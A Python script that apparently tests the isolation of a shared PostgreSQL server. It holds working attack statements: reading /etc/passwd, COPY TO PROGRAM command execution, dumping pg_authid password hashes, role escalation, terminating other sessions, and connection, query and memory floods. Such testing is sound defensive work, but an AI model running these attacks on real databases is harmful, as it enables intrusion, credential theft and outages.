"""Attacks on the PostgreSQL that all runs share, over the wire and without any library."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import hmac
import os
import socket
import struct
import threading
import time

from hostile import main, tell

PASSWORD = "password"


class Refused(Exception):
    """The server's own message."""


class Connection:
    """One session: start, password, simple queries."""

    def __init__(self, database: str = "database", user: str = "user", password: str = PASSWORD) -> None:
        self.socket = socket.create_connection(("127.0.0.1", 5432), 10)
        fields = b"".join(word.encode() + b"\0" for word in ("user", user, "database", database))
        self.socket.sendall(struct.pack("!ii", 9 + len(fields), 196608) + fields + b"\0")
        self._sign_in(password)
        while self._message()[0] != b"Z":
            pass

    def query(self, text: str) -> list[list[str | None]]:
        """The rows of the last statement. Raises Refused."""
        content = text.encode() + b"\0"
        self.socket.sendall(b"Q" + struct.pack("!i", 4 + len(content)) + content)
        rows: list[list[str | None]] = []
        trouble = ""
        while True:
            kind, body = self._message(fail=False)
            if kind == b"E":
                trouble = _told(body)
            elif kind == b"D":
                rows.append(_row(body))
            elif kind == b"G":  # COPY FROM STDIN: we have nothing to send
                self.socket.sendall(b"f" + struct.pack("!i", 5) + b"\0")
            elif kind == b"Z":
                break
        if trouble:
            raise Refused(trouble)
        return rows

    def _sign_in(self, password: str) -> None:
        nonce = base64.b64encode(os.urandom(18)).decode()
        bare = f"n=,r={nonce}"
        first = proof = b""
        while True:
            _, body = self._message()
            (step,) = struct.unpack("!i", body[:4])
            if step == 0:
                return
            if step == 10:
                first = f"n,,{bare}".encode()
                answer = b"SCRAM-SHA-256\0" + struct.pack("!i", len(first)) + first
            elif step == 11:
                proof = _proof(password, bare, body[4:].decode())
                answer = proof
            else:
                continue
            self.socket.sendall(b"p" + struct.pack("!i", 4 + len(answer)) + answer)

    def _message(self, fail: bool = True) -> tuple[bytes, bytes]:
        head = self._exactly(5)
        body = self._exactly(struct.unpack("!i", head[1:])[0] - 4)
        if fail and head[:1] == b"E":
            raise Refused(_told(body))
        return head[:1], body

    def _exactly(self, count: int) -> bytes:
        content = b""
        while len(content) < count:
            part = self.socket.recv(count - len(content))
            if not part:
                raise Refused("the connection was closed")
            content += part
        return content


def _proof(password: str, bare: str, challenge: str) -> bytes:
    parts = dict(part.split("=", 1) for part in challenge.split(","))
    salted = hashlib.pbkdf2_hmac("sha256", password.encode(), base64.b64decode(parts["s"]), int(parts["i"]))
    client_key = hmac.digest(salted, b"Client Key", "sha256")
    without = f"c=biws,r={parts['r']}"
    message = f"{bare},{challenge},{without}".encode()
    signature = hmac.digest(hashlib.sha256(client_key).digest(), message, "sha256")
    proof = bytes(one ^ other for one, other in zip(client_key, signature, strict=True))
    return f"{without},p={base64.b64encode(proof).decode()}".encode()


def _told(body: bytes) -> str:
    return next((field[1:].decode("utf-8", "replace") for field in body.split(b"\0") if field[:1] == b"M"), "refused")


def _row(body: bytes) -> list[str | None]:
    (count,), at, row = struct.unpack("!h", body[:2]), 2, []
    for _ in range(count):
        (length,) = struct.unpack("!i", body[at : at + 4])
        at += 4
        row.append(None if length < 0 else body[at : at + length].decode("utf-8", "replace"))
        at += max(length, 0)
    return row


def ways_in(victim: str, mark: str) -> None:
    """Every attempt that needs one connection; what succeeded is told by name."""
    tell(tried=True, role=Connection().query("SELECT current_user")[0][0])
    _connections(victim)
    _statements(victim, mark)


def _connections(victim: str) -> None:
    attempts = {
        "other-runs-database": [(victim, "user", PASSWORD)],
        "other-runs-role": [(victim, victim, PASSWORD), ("database", victim, PASSWORD)],
        "maintenance-databases": [("postgres", "user", PASSWORD), ("template1", "user", PASSWORD)],
        "superuser": [("postgres", "postgres", ""), ("postgres", "postgres", PASSWORD), ("template1", "pgserver", "")],
        "wrong-password": [("database", "user", "wrong"), ("database", "user", "")],
    }
    for name, ways in attempts.items():
        entered, refused = [], ""
        for database, user, password in ways:
            try:
                Connection(database, user, password)
                entered.append(f"{user} in {database}")
            except Refused as error:
                refused = str(error)
        tell(attempt=name, done=entered, refused=refused)


def _statements(victim: str, mark: str) -> None:
    others = "SELECT pid FROM pg_stat_activity WHERE pid <> pg_backend_pid()"
    attempts = {
        "other-runs-backends-ended": [
            f"SELECT 1 FROM ({others}) o WHERE pg_terminate_backend(pid)",
            f"SELECT 1 FROM ({others}) o WHERE pg_cancel_backend(pid)",
        ],
        "other-runs-database-dropped": [f'DROP DATABASE "{victim}"', f'ALTER DATABASE "{victim}" RENAME TO x'],
        "becoming-another-role": [
            f'SET ROLE "{victim}"',
            f'SET SESSION AUTHORIZATION "{victim}"',
            "SET SESSION AUTHORIZATION postgres",
            "ALTER USER CURRENT_USER SUPERUSER",
            "CREATE ROLE amend_attack",
            f'GRANT "{victim}" TO CURRENT_USER',
            "GRANT pg_read_server_files TO CURRENT_USER",
        ],
        "reading-the-servers-files": [
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT pg_ls_dir('.')",
            "SELECT lo_import('/etc/passwd')",
            "CREATE TABLE taken (line text); COPY taken FROM '/etc/passwd'",
            "CREATE EXTENSION file_fdw",
            "LOAD '/tmp/evil.so'",
        ],
        "writing-the-servers-files": [
            f"COPY (SELECT 1) TO '/tmp/{mark}'",
            f"SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/{mark}')",
            "ALTER SYSTEM SET work_mem = '1GB'",
            "CREATE TABLESPACE amend_attack LOCATION '/tmp'",
        ],
        "running-programs-on-the-server": [
            f"COPY (SELECT 1) TO PROGRAM 'touch /tmp/{mark}'",
            "CREATE TABLE told (line text); COPY told FROM PROGRAM 'id'",
            "CREATE FUNCTION evil() RETURNS int AS 'libc.so.6', 'system' LANGUAGE C",
            "CREATE FUNCTION evil() RETURNS int AS 'return 1' LANGUAGE plpython3u",
            "CREATE EXTENSION dblink",
            "CREATE EXTENSION adminpack",
        ],
        "another-runs-rows-in-the-catalogue": [
            f"SELECT query FROM pg_stat_activity WHERE datname = '{victim}' AND query NOT LIKE '<insufficient%'",
            "SELECT rolpassword FROM pg_authid",
            "SELECT passwd FROM pg_shadow",
        ],
    }
    for name, statements in attempts.items():
        done, refused = [], ""
        own = Connection()  # what a statement before may have changed must not keep this one back
        for statement in statements:
            try:
                rows = own.query(statement)
            except Refused as error:
                refused = str(error)
            else:
                if rows or not statement.startswith("SELECT"):
                    done.append(statement)
        tell(attempt=name, done=done, refused=refused)


def connection_flood(most: int, seconds: float) -> None:
    """As many sessions as it gets, all of them kept."""
    tell(tried=True)
    kept, refused = [], ""
    for _ in range(most):
        try:
            kept.append(Connection())
        except (Refused, OSError) as error:
            refused = str(error)
            break
    tell(made=len(kept), refused=refused)
    time.sleep(seconds)


def statement_flood(connections: int, seconds: float) -> None:
    """Sessions that compute and sort for nothing, all at once."""
    tell(tried=True)

    rows = "SELECT md5(n::text) FROM generate_series(1, 30000000) n ORDER BY 1"

    def burn() -> None:
        with contextlib.suppress(Refused, OSError):
            Connection().query(f"SELECT count(*) FROM ({rows}) s")

    for _ in range(connections):
        threading.Thread(target=burn, daemon=True).start()
    time.sleep(seconds)
    os._exit(0)


def memory_of_the_server(megabytes: int) -> None:
    """One value after the other that the server has to hold, beyond what a run may have."""
    own = Connection()
    tell(tried=True)
    try:
        own.query(f"SELECT length(array_agg(repeat(md5(n::text), 32768))::text) FROM generate_series(1, {megabytes}) n")
    except Refused as error:
        tell(finished=False, refused=str(error))
    else:
        tell(finished=True, refused="")


def nonsense(connections: int) -> None:
    """Broken starts of the protocol, and starts that never come to an end."""
    tell(tried=True)
    kept = []
    messages = [b"\0" * 8, b"\xff" * 64, struct.pack("!ii", 2**31 - 1, 196608), struct.pack("!ii", 8, 80877103) * 500]
    for number in range(connections):
        with contextlib.suppress(OSError):
            trial = socket.create_connection(("127.0.0.1", 5432), 5)
            kept.append(trial)
            trial.sendall(messages[number % len(messages)])
    tell(made=len(kept))
    time.sleep(1)


main(
    {
        "ways_in": ways_in,
        "connection_flood": connection_flood,
        "statement_flood": statement_flood,
        "memory_of_the_server": memory_of_the_server,
        "nonsense": nonsense,
    }
)
